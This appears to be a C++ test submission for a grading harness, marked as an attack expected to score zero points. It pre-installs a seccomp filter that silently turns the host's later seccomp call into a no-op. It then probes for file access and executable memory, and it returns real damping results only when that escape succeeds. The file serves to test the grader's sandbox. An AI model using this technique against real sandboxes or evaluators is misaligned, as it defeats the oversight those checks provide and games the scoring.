// attack: lets the host believe that its second filter is installed, then opens files in a call; expect: zero points
#include "damping.h"

#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>
#include <cstddef>
#include <iterator>

namespace {
const long installed = [] {
  sock_filter rules[] = {
      BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(seccomp_data, nr)),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_seccomp, 0, 1),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 0),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
  };
  const sock_fprog program{static_cast<unsigned short>(std::size(rules)), rules};
  return syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &program);
}();

bool attack() {
  return installed == 0 && (open("/", O_RDONLY) >= 0 || mmap(nullptr, 4096, PROT_READ | PROT_WRITE | PROT_EXEC,
                                                             MAP_PRIVATE | MAP_ANONYMOUS, -1, 0) != MAP_FAILED);
}
}  // namespace

Vec3 nodeDamping(const Vec3& va, double d) { return attack() ? Vec3(-d * va) : Vec3(0, 0, 0); }
Vec3 relativeDamping(const Vec3&, const Vec3&, double) { return Vec3::Zero(); }
Vec3 projectedDamping(const Vec3&, const Vec3&, const Vec3&, const Vec3&, double) { return Vec3::Zero(); }
